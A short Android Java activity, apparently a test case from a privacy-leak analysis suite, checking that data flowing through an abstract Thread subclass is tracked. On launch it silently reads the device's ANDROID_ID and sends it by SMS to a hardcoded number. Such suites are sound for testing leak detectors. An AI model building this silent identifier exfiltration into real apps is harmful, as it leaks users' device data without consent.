package cn.privlens.suite.thread_base_calls_work;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Main extends Activity {
    abstract static class Job extends Thread {
        final Context context;
        Job(Context context) { this.context = context; }
        @Override
        public void run() { work(); }
        abstract void work();
    }
    static class Send extends Job {
        Send(Context context) { super(context); }
        @Override
        void work() { SmsManager.getDefault().sendTextMessage("10690000", null, Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID), null, null); }

    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Send(this).start();
    }
}
